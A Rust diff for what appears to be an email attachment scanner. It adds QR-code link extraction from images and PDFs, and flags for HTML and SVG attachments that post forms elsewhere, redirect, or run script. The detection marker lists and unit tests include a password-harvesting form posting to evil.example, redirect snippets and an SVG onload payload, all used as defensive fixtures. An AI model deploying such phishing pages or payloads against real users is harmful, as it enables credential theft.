@@ -4,13 +4,19 @@
 //! than by recursion, at most [`FILES_MAX`] files nested [`DEPTH_MAX`] deep, inflated to [`INFLATED_BYTES_MAX`]
 //! bytes together. No archive's statement about sizes is believed, and nothing is written anywhere. What is gone over
 //! is charged to the message's budget: bytes attached, bytes inflated, files, links.
+//!
+//! Pictures wait until all else of the message was read, as what is left of the budget decides how many are unpacked to look
+//! for QR codes in them.
 
 mod calendar;
 mod container;
 mod file_name;
 mod file_type;
+mod grey_image;
 mod office;
 mod pdf;
+mod png;
+mod qr_code;
 mod similarity;
 mod zip;
 
@@ -29,9 +35,10 @@ use crate::mail::columns::{MESSAGE_BYTES_MAX, MailColumns};
 use crate::mail::mime::{Defects, MimePart, PartRole};
 use crate::text::truncate;
 use crate::web::html::{self, PageLimits};
-use crate::web::link::{self, Link};
+use crate::web::link::{self, Link, TextReference};
 use file_name::FileName;
 use file_type::FileType;
+use grey_image::{PdfImage, UnreadImage};
 
 /// Most files that are looked at, those in others included.
 pub const FILES_MAX: usize = 1_000;
@@ -46,6 +53,11 @@ const TEXT_BYTES_MAX: usize = 256 * 1024;
 /// The ratio above which a file is packed to do harm: it inflates to more than this many times its size, and to more than a
 /// megabyte.
 const RATIO_MAX: usize = 100;
+/// Most pictures that wait to be looked at, and most bytes of one.
+const IMAGES_MAX: usize = 64;
+const IMAGE_BYTES_MAX: usize = 8 * 1024 * 1024;
+/// Smaller files are no picture of a code; those of logos and lines are not unpacked.
+const IMAGE_BYTES_MIN: usize = 100;
 /// Steps of a file: its name, its kind, its place in lists.
 const FILE_STEPS: u64 = 5_000;
 /// Steps of a byte that is decoded and summed up.
@@ -65,6 +77,28 @@ struct QueuedFile<'f> {
     media_type: &'f str,
     content: Cow<'f, [u8]>,
     depth: usize,
+}
+
+/// A picture that waits to be looked at.
+#[derive(Debug)]
+struct QueuedImage {
+    form: ImageForm,
+    data: Vec<u8>,
+}
+
+/// The form in which a picture is stored.
+#[derive(Clone, Copy, Debug)]
+enum ImageForm {
+    File(FileType),
+    Pdf(PdfImage),
+}
+
+/// The findings about QR codes.
+#[derive(Debug, Default)]
+struct QrCodeFindings {
+    count: usize,
+    links: Vec<String>,
+    link_domains: Vec<String>,
 }
 
 /// The findings about the attachments of a message.
@@ -89,6 +123,13 @@ pub(crate) struct Attachments {
     pdf: pdf::PdfFindings,
     page: HtmlFindings,
     invitation: calendar::CalendarInvitation,
+    calendar_links: Vec<String>,
+    calendar_link_domains: Vec<String>,
+    images_waiting: Vec<QueuedImage>,
+    images_unread: bool,
+    codes: QrCodeFindings,
+    /// Texts whose links are those of the message: what is in QR codes and invitations, which readers open as they are.
+    shown: Vec<String>,
     files: usize,
     inflatable: usize,
 }
@@ -111,8 +152,14 @@ struct HtmlFindings {
     is_there: bool,
     runs: bool,
     asks: bool,
-    /// True if a page makes a file out of its own text, which no filter on the way has seen.
+    /// True if a page makes a page or file out of its own text, which no filter on the way has seen.
     builds: bool,
+    /// True if a form is sent to another host.
+    posts: bool,
+    /// True if a page goes on to another by itself.
+    leads: bool,
+    /// True if an SVG image runs a script or holds a page.
+    svg_runs: bool,
 }
 
 /// Adds an item to a list without repeats, of at most [`ITEMS_MAX`].
@@ -167,6 +214,10 @@ impl Attachments {
             let mut kind = FileType::of(&file.content);
             let name = file.name.as_deref().map(|name| self.name(name, file.depth)).unwrap_or_default();
             self.packed.depth = self.packed.depth.max(file.depth);
+            // A page needs no more than a form to be one.
+            if kind == FileType::Text && name.is_page() {
+                kind = FileType::Html;
+            }
             self.belied |= kind.belies(name.ending(), file.media_type);
             match kind {
                 FileType::Zip => kind = self.unzip(&file, &mut waiting, budget),
@@ -190,7 +241,7 @@ impl Attachments {
                     self.office_found(office::rich_text(budget.cut_bytes(&file.content, STEPS_A_FILE_BYTE)));
                 }
                 FileType::Pdf => self.pdf(&file.content, budget),
-                FileType::Html | FileType::Svg => self.page(&file.content, budget),
+                FileType::Html | FileType::Svg => self.page(kind, &file.content, budget),
                 FileType::Calendar => self.calendar(&file.content, budget),
                 _ if kind.packs() => self.packed.is_unread = true,
                 _ => {}
@@ -202,6 +253,9 @@ impl Attachments {
             if !packs && budget.spend(STEPS_A_FILE_BYTE * file.content.len() as u64) {
                 self.alike(kind, &file.content);
             }
+            if kind.is_image() {
+                self.queue(ImageForm::File(kind), file.content.len(), || file.content.into_owned(), budget);
+            }
         }
     }
 
@@ -212,6 +266,55 @@ impl Attachments {
         } else {
             similarity::of_file(content).for_each(|piece| add(&mut self.pieces, &piece));
         }
+    }
+
+    /// Lets a picture wait.
+    fn queue(&mut self, form: ImageForm, bytes: usize, data: impl FnOnce() -> Vec<u8>, budget: &Budget) {
+        if bytes < IMAGE_BYTES_MIN {
+            return;
+        }
+        let is_full = self.images_waiting.len() == IMAGES_MAX || bytes > IMAGE_BYTES_MAX;
+        if is_full || !budget.spend(COPY_STEPS + bytes as u64 / 8) {
+            self.images_unread = true;
+            return;
+        }
+        self.images_waiting.push(QueuedImage { form, data: data() });
+    }
+
+    /// Looks for QR codes in the pictures, the smallest files first: of what the budget has, they give most.
+    pub(crate) fn read_codes(&mut self, budget: &Budget) {
+        let mut images = std::mem::take(&mut self.images_waiting);
+        images.sort_by_key(|image| image.data.len());
+        for QueuedImage { form, data } in images {
+            let image = match form {
+                ImageForm::File(kind) => grey_image::of_file(kind, &data, budget),
+                ImageForm::Pdf(image) => grey_image::of_pdf(image, &data, budget),
+            };
+            match image {
+                Ok(image) => qr_code::find(&image, budget, |text| {
+                    self.codes.count += 1;
+                    self.shown.push(truncate(&String::from_utf8_lossy(&text), ITEM_BYTES_MAX).to_owned());
+                }),
+                Err(unread) => self.images_unread |= unread == UnreadImage::TooLarge,
+            }
+        }
+        for text in &self.shown[self.shown.len() - self.codes.count..] {
+            link::find(budget.cut(text, link::STEPS_A_BYTE), |found| {
+                if let TextReference::Url(url) = found
+                    && budget.spend(LINK_STEPS)
+                    && let Some(link) = Link::parse(url)
+                {
+                    add(&mut self.codes.link_domains, link::registrable(&link.host).unwrap_or_default());
+                    add(&mut self.codes.links, &link.url);
+                }
+                true
+            });
+        }
+    }
+
+    /// Returns the texts whose links are those of the message.
+    pub(crate) fn shown(&self) -> &[String] {
+        &self.shown
     }
 
     fn name(&mut self, name: &str, depth: usize) -> FileName {
@@ -342,11 +445,16 @@ impl Attachments {
 
     fn pdf(&mut self, content: &[u8], budget: &Budget) {
         let mut links = Vec::new();
-        let found = pdf::read(content, &mut self.inflatable, budget, |link| {
+        let mut inflatable = self.inflatable;
+        let link = |link: &str| {
             if links.len() < ITEMS_MAX {
                 links.push(link.to_owned());
             }
+        };
+        let found = pdf::read(content, &mut inflatable, budget, link, |image, data| {
+            self.queue(ImageForm::Pdf(image), data.len(), || data.to_vec(), budget);
         });
+        self.inflatable = inflatable;
         self.pdf.script |= found.script;
         self.pdf.action |= found.action;
         self.pdf.launch |= found.launch;
@@ -355,16 +463,30 @@ impl Attachments {
         self.links(&links, budget);
     }
 
-    fn page(&mut self, content: &[u8], budget: &Budget) {
+    fn page(&mut self, kind: FileType, content: &[u8], budget: &Budget) {
         let source = budget.cut_bytes(&content[..content.len().min(TEXT_BYTES_MAX)], STEPS_A_TEXT_BYTE);
         let has = |mark: &[u8]| memmem::find(source, mark).is_some();
-        let builds = has(b"atob(") || has(b"new Blob(") || has(b"msSaveOrOpenBlob") || has(b"fromCharCode(");
+        let any = |marks: &[&[u8]]| marks.iter().any(|mark| has(mark));
+        let builds = any(&[
+            b"atob(",
+            b"new Blob(",
+            b"msSaveOrOpenBlob",
+            b"fromCharCode(",
+            b"document.write(unescape(",
+            b"eval(",
+        ]);
+        let leads = any(&[b"window.location", b"location.href", b"location.replace(", b"location.assign("]);
+        let svg_runs =
+            kind == FileType::Svg && any(&[b"<script", b"onload=", b"javascript:", b"<foreignObject"]);
         let source = String::from_utf8_lossy(source);
         let page = html::read(&source, PageLimits { text_bytes: 0, references: ITEMS_MAX }, budget);
         self.page.is_there = true;
         self.page.runs |= page.marks.has_script || page.marks.has_refresh || has(b"onload=");
         self.page.asks |= page.marks.has_form || page.marks.has_password;
         self.page.builds |= builds;
+        self.page.posts |= page.marks.posts;
+        self.page.leads |= page.marks.has_refresh || page.marks.has_script && leads;
+        self.page.svg_runs |= svg_runs;
         page.references.iter().all(|reference| self.link(&reference.target, budget));
     }
 
@@ -373,7 +495,16 @@ impl Attachments {
         let mut links = Vec::new();
         let text = String::from_utf8_lossy(text);
         self.invitation = calendar::read(&text, |link| links.push(link.to_owned()), budget);
-        self.links(&links, budget);
+        for target in links {
+            if !self.link(&target, budget) {
+                break;
+            }
+            if let Some(link) = Link::parse(&target) {
+                add(&mut self.calendar_link_domains, link::registrable(&link.host).unwrap_or_default());
+                add(&mut self.calendar_links, &link.url);
+            }
+            add(&mut self.shown, &target);
+        }
     }
 
     fn links(&mut self, targets: &[String], budget: &Budget) {
@@ -424,10 +555,15 @@ impl Attachments {
             (columns.page_attachment_script, self.page.runs),
             (columns.page_attachment_form, self.page.asks),
             (columns.page_attachment_builds, self.page.builds),
+            (columns.page_attachment_posts, self.page.posts),
+            (columns.page_attachment_leads, self.page.leads),
+            (columns.svg_script, self.page.svg_runs),
         ] {
             facts.set(slot, is);
         }
         facts.set(columns.archive_depth, self.packed.depth);
+        facts.set(columns.qr_codes, self.codes.count);
+        facts.set(columns.images_unread, self.images_unread);
         let mut set = |slot: Slot, list: Vec<String>| {
             if !list.is_empty() {
                 facts.set(slot, list);
@@ -442,6 +578,10 @@ impl Attachments {
         set(columns.archive_names, self.packed.names);
         set(columns.attachment_links, self.links);
         set(columns.attachment_link_domains, self.link_domains);
+        set(columns.qr_links, self.codes.links);
+        set(columns.qr_link_domains, self.codes.link_domains);
+        set(columns.calendar_links, self.calendar_links);
+        set(columns.calendar_link_domains, self.calendar_link_domains);
         if let Some(method) = self.invitation.method {
             facts.set(columns.calendar_method, truncate(&method, ITEM_BYTES_MAX));
         }
@@ -512,5 +652,66 @@ mod tests {
         assert!(found.office.macros && found.kinds == ["office"]);
         let found = look("i.ics", b"BEGIN:VCALENDAR\nMETHOD:CANCEL\n");
         assert_eq!(found.invitation.method.as_deref(), Some("cancel"));
+    }
+
+    #[test]
+    fn pages_are_looked_through_for_what_they_do() {
+        let page = |name: &str, content: &[u8]| look(name, content).page;
+        assert!(page("fax.htm", b"<form action='https://evil.example/in.php'><input type=password>").posts);
+        assert!(!page("fax.txt", b"<form action='https://evil.example/in.php'>").is_there);
+        assert!(
+            page("a.html", b"<meta http-equiv=refresh content='0;url=https://evil.example/'><script>").leads
+        );
+        assert!(page("a.html", b"<script>window.location='//evil.example'</script>").leads);
+        assert!(!page("a.html", b"<html>Write window.location in your script").leads);
+        assert!(page("a.svg", b"<svg onload=alert(1)></svg>").svg_runs);
+        assert!(page("a.svg", b"<svg><foreignObject><body/></foreignObject></svg>").svg_runs);
+        assert!(!page("a.svg", b"<svg><path d='M0 0'/></svg>").svg_runs);
+        assert!(!page("a.html", b"<html><script></script>").svg_runs);
+    }
+
+    /// Links of QR codes in a file.
+    fn codes(name: &str, content: &[u8]) -> Vec<String> {
+        let mut found = look(name, content);
+        found.read_codes(&Budget::ample());
+        assert_eq!(found.codes.count, found.codes.links.len(), "{name}");
+        found.codes.links
+    }
+
+    #[test]
+    fn codes_are_looked_for_in_images_and_documents() {
+        let link = "https://login.example.com/?a=b";
+        let png = corpora::qr_png(link);
+        assert_eq!(codes("a.png", &png), [link]);
+        let archive = zip::tests::archive(&[("a.png", &png)], None);
+        assert_eq!(codes("a.zip", &archive), [link]);
+        for (file, name) in [("jpeg-code", "a.jpg"), ("gif-code", "a.gif"), ("pdf-code", "a.pdf")] {
+            let path = format!("{}/../../fuzz/seeds/picture/{file}", env!("CARGO_MANIFEST_DIR"));
+            assert_eq!(
+                codes(name, &std::fs::read(&path).unwrap()[1..]),
+                ["https://example.com/login?x=1"],
+                "{file}"
+            );
+        }
+        let (side, dark) = corpora::qr_modules(link);
+        let is_dark = |at: usize| dark[at / (side * 4) / 4 * side + at % (side * 4) / 4];
+        let pixels: Vec<u8> = (0..side * side * 16).map(|at| if is_dark(at) { 0 } else { 255 }).collect();
+        let head = format!(
+            "%PDF-1.4\n1 0 obj<</Subtype/Image/Width {0}/Height {0}/BitsPerComponent 8>>stream\n",
+            side * 4
+        );
+        assert_eq!(codes("a.pdf", &[head.as_bytes(), &pixels, b"\nendstream"].concat()), [link]);
+    }
+
+    #[test]
+    fn pictures_that_cannot_be_paid_for_are_said() {
+        let png = corpora::qr_png("https://example.com/");
+        let mut found = look("a.png", &png);
+        let budget = Budget::of_steps(30_000, &crate::budget::Cancellation::default());
+        found.read_codes(&budget);
+        assert!(found.codes.count == 0 && found.images_unread && !budget.is_short());
+        let mut found = look("a.png", &png[..40]);
+        found.read_codes(&Budget::ample());
+        assert!(!found.images_unread);
     }
 }
